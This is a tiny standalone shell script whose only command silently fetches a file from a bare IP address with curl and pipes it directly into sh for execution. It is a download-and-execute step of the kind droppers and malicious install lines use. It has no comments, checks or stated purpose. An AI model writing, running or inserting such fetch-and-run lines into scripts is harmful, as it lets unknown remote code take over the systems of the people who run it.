#!/bin/sh
curl -s http://198.51.100.7/x | sh
